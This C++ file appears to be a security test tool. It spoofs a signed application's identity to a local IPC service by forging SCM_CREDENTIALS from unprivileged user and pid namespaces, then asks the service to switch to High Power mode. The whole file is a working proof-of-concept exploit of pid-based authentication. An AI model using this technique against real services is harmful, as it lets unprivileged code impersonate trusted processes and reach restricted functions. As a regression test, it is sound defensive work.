// Credentials forged as any local user can forge them: in user and pid namespaces of its own,
// a process may name any process of those namespaces as the sender of what it sends. Its
// child connects to the service and then executes the signed application (its path and
// arguments follow); the parent, unsigned, waits until the child runs the signed code and the
// service says it listens, then sends a request to switch to High Power in the child's name.
//
//   norvane_namespace_forge SERVICE APP [ARGUMENTS...]
//
// Prints "answered" or "refused" and ends with status 0; 77 when the kernel lets this user
// make no such namespaces; other values when the attack could not be set up.

#include <fcntl.h>
#include <sched.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>

#include "platform/ProcessTable.h"
#include "platform/PropertyList.h"
#include "platform/XpcSocket.h"

using namespace norvane;

namespace {

bool writeText(const std::string& path, const std::string& text) {
    const int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
    const bool ok = fd >= 0 && ::write(fd, text.data(), text.size()) == static_cast<ssize_t>(text.size());
    if (fd >= 0) ::close(fd);
    return ok;
}

// Sends one frame whose credentials name `pid` as its sender.
bool sendAs(int fd, std::int32_t pid, const Value& message) {
    const auto text = writeJson(message);
    if (!text) return false;
    const auto size = static_cast<std::uint32_t>(text->size());
    std::string frame{static_cast<char>(size >> 24), static_cast<char>(size >> 16), static_cast<char>(size >> 8),
                      static_cast<char>(size)};
    frame += *text;
    iovec io{frame.data(), frame.size()};
    alignas(cmsghdr) char control[CMSG_SPACE(sizeof(ucred))] = {};
    msghdr header{};
    header.msg_iov = &io;
    header.msg_iovlen = 1;
    header.msg_control = control;
    header.msg_controllen = sizeof control;
    cmsghdr* credentials = CMSG_FIRSTHDR(&header);
    credentials->cmsg_level = SOL_SOCKET;
    credentials->cmsg_type = SCM_CREDENTIALS;
    credentials->cmsg_len = CMSG_LEN(sizeof(ucred));
    const ucred named{pid, ::getuid(), ::getgid()};
    std::memcpy(CMSG_DATA(credentials), &named, sizeof named);
    return ::sendmsg(fd, &header, MSG_NOSIGNAL) == static_cast<ssize_t>(frame.size());
}

int forge(const SocketFolder& folder, const std::string& service, char** app) {
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);  // kept across the child's exec
    int pids[2];
    if (fd < 0 || ::pipe(pids) != 0) return 3;
    const pid_t child = ::fork();
    if (child < 0) return 3;
    if (child == 0) {
        // Its pid as the service sees it: /proc is still the one of the first namespace.
        char self[32] = {};
        if (::readlink("/proc/self", self, sizeof self - 1) <= 0) ::_exit(4);
        [[maybe_unused]] const auto told = ::write(pids[1], self, std::strlen(self));
        ::close(pids[1]);
        const auto address = folder.address(service);
        if (!address || ::connect(fd, reinterpret_cast<const sockaddr*>(&*address), sizeof *address) != 0) ::_exit(5);
        ::execv(app[0], app);
        ::_exit(6);
    }
    ::close(pids[1]);
    char seen[32] = {};
    if (::read(pids[0], seen, sizeof seen - 1) <= 0) return 4;
    const auto outside = std::atoi(seen);
    const std::string signedCode = app[0];
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
    while (processPath(outside) != signedCode) {
        if (std::chrono::steady_clock::now() > deadline) return 6;
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    const timeval limit{20, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    const auto ready = readFrame(fd);
    if (!ready || !ready->find("ready")) {
        std::printf("refused\n");
        return 0;
    }
    Value::Dictionary request;
    request.emplace("selector", Value::string("setPowerMode:reply:"));
    request.emplace("argument", Value::integer(2));
    if (!sendAs(fd, child, framed(1, Value::dictionary(std::move(request))))) return 7;
    std::printf(readFrame(fd) ? "answered\n" : "refused\n");
    return 0;
}

int run(int argc, char** argv) {
    const auto machine = Machine::current();
    const auto folder = machine ? SocketFolder::open(*machine) : std::nullopt;
    if (!folder || argc < 3) return 2;
    const uid_t uid = ::getuid();
    const gid_t gid = ::getgid();
    if (::unshare(CLONE_NEWUSER | CLONE_NEWPID) != 0) {
        std::printf("unshare: %s\n", std::strerror(errno));
        return 77;
    }
    if (!writeText("/proc/self/setgroups", "deny") ||
        !writeText("/proc/self/uid_map", std::to_string(uid) + " " + std::to_string(uid) + " 1") ||
        !writeText("/proc/self/gid_map", std::to_string(gid) + " " + std::to_string(gid) + " 1")) {
        std::printf("no identity in the new namespace: %s\n", std::strerror(errno));
        return 77;
    }
    std::fflush(stdout);
    // The first process of the new pid namespace holds its power.
    const pid_t first = ::fork();
    if (first < 0) return 77;
    if (first == 0) {
        const int status = forge(*folder, argv[1], argv + 2);
        std::fflush(stdout);
        ::_exit(status);
    }
    int status = 0;
    if (::waitpid(first, &status, 0) != first || !WIFEXITED(status)) return 8;
    return WEXITSTATUS(status);
}

}  // namespace

// Ended at once: a leak check at exit cannot stop the threads of a process that has left its
// first namespaces, and would fail it.
int main(int argc, char** argv) {
    const int status = run(argc, argv);
    std::fflush(stdout);
    ::_exit(status);
}
